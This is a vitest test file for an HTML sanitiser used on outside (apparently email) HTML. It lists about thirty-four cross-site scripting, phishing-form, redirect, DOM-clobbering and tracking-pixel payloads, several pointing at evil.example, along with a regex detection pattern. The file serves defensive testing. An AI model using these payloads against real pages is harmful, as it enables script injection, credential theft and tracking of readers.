import { describe, expect, it } from 'vitest';
import { sanitiseHtml, withRemoteImages } from './sanitise-html.ts';

describe('HTML from outside', () => {
  const attacks: [string, string][] = [
    ['a script', '<script>alert(1)</script>'],
    ['a script in capitals with a space', '<SCRIPT >alert(1)</SCRIPT >'],
    ['a script split by a script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
    ['an event handler', '<p onclick="alert(1)" onmouseover=alert(1)>x</p>'],
    ['an event handler after a slash', '<img/onerror=alert(1)/src=x>'],
    ['a broken image with a handler', '<img src=x onerror="alert(1)">'],
    ['a javascript: link', '<a href="javascript:alert(1)">x</a>'],
    ['a javascript: link with a line break in it', '<a href="java\nscript:alert(1)">x</a>'],
    ['a javascript: link with entities', '<a href="&#106;avascript&colon;alert(1)">x</a>'],
    ['a javascript: link behind control characters', '<a href="\u0001javascript:alert(1)">x</a>'],
    ['a vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
    ['a data: link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
    ['an SVG image in data', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
    ['an SVG with a handler', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>'],
    [
      'MathML that changes how the rest is read',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    ],
    ['a style sheet', '<style>@import "https://evil.example/x.css"; body { display: none }</style>'],
    ['a remote style sheet', '<link rel=stylesheet href="https://evil.example/x.css">'],
    ['an expression in a style', '<p style="width: expression(alert(1))">x</p>'],
    ['a remote image in a style', '<p style="background: url(https://evil.example/p.gif)">x</p>'],
    [
      'a remote image in an escaped style',
      '<p style="background-image: u\\72l(https://evil.example/p.gif)">x</p>',
    ],
    ['a remote image in a colour', '<p style="color: url(https://evil.example/p.gif)">x</p>'],
    ['a layer above everything', '<div style="position: fixed; top: 0; z-index: 999">x</div>'],
    ['a form', '<form action="https://evil.example"><input name=password><button>Log in</button></form>'],
    ['a frame', '<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x>'],
    ['a redirect', '<meta http-equiv=refresh content="0; url=https://evil.example">'],
    ['a new base', '<base href="https://evil.example/">'],
    [
      'a name that hides a property of the page',
      '<p id="location" name="cookie" class="mantine-Button">x</p>',
    ],
    ['a background image', '<table background="https://evil.example/p.gif"><tr><td>x</td></tr></table>'],
    [
      'a set of images',
      '<img srcset="https://evil.example/p.gif 2x"><picture><source srcset=//evil.example/p.gif></picture>',
    ],
    ['an image of ours that the sender names', '<img src="/api/session"><img src="//evil.example/p.gif">'],
    ['a template', '<template><img src=x onerror=alert(1)></template>'],
    [
      'a noscript that ends early',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    ],
    ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
    ['a title that ends early', '<title><a href="</title><img src=x onerror=alert(1)>">'],
  ];
  const forbidden =
    /<script|<style|<svg|<math|<iframe|<object|<embed|<form|<input|<button|<meta|<base|<link|<template|javascript:|vbscript:|data:|expression|evil\.example|position|z-index|\/api\/session|srcset|[\s/](?:id|name|class|on\w+)=|href="(?!https?:|mailto:|tel:)/i;

  it.each(attacks)('comes without %s', (_name, html) => {
    // Handlers inside of quoted text are no handlers: look at tags only.
    const tags = (sanitiseHtml(html).match(/<[^>]*>/g) ?? []).join('');
    expect(tags).not.toMatch(forbidden);
  });

  it('keeps what a letter is made of', () => {
    const letter =
      '<h1>Hi</h1><p style="color:#333;margin:0 0 1em">A <b>bold</b> <a href="https://shop.example/?a=1&amp;b=2">link</a></p><ul><li>one</li></ul>';
    expect(sanitiseHtml(letter)).toBe(
      '<h1>Hi</h1><p style="color:#333;margin:0 0 1em">A <b>bold</b> <a href="https://shop.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">link</a></p><ul><li>one</li></ul>',
    );
  });

  it('holds remote images back until a reader asks for them', () => {
    const held = sanitiseHtml('<img alt="logo" src="https://shop.example/logo.png" onload="x()">');
    expect(held).toBe('<img data-remote-src="https://shop.example/logo.png" alt="logo" />');
    expect(withRemoteImages(held)).toBe('<img src="https://shop.example/logo.png" alt="logo" />');
  });

  it('does not let the sender write the attribute that holds remote images back', () => {
    for (const address of ['javascript:alert(1)', '/api/session', 'https://shop.example/p.gif']) {
      expect(sanitiseHtml(`<img data-remote-src="${address}" src="x">`)).toBe('<img />');
    }
    expect(withRemoteImages(sanitiseHtml('&lt;img data-remote-src="x">'))).not.toContain('<img');
  });

  it('shows inline images from their files, and none that the mail did not bring', () => {
    const inline = new Map([['logo@shop', '/api/files/1']]);
    expect(sanitiseHtml('<img src="cid:logo%40shop"><img src="CID:other">', inline)).toBe(
      '<img src="/api/files/1" /><img />',
    );
  });

  it('is done with deep nesting in a moment', () => {
    const begun = performance.now();
    expect(sanitiseHtml(`${'<div>'.repeat(1_900)}end`)).toContain('end');
    expect(performance.now() - begun).toBeLessThan(1_000);
  });
});
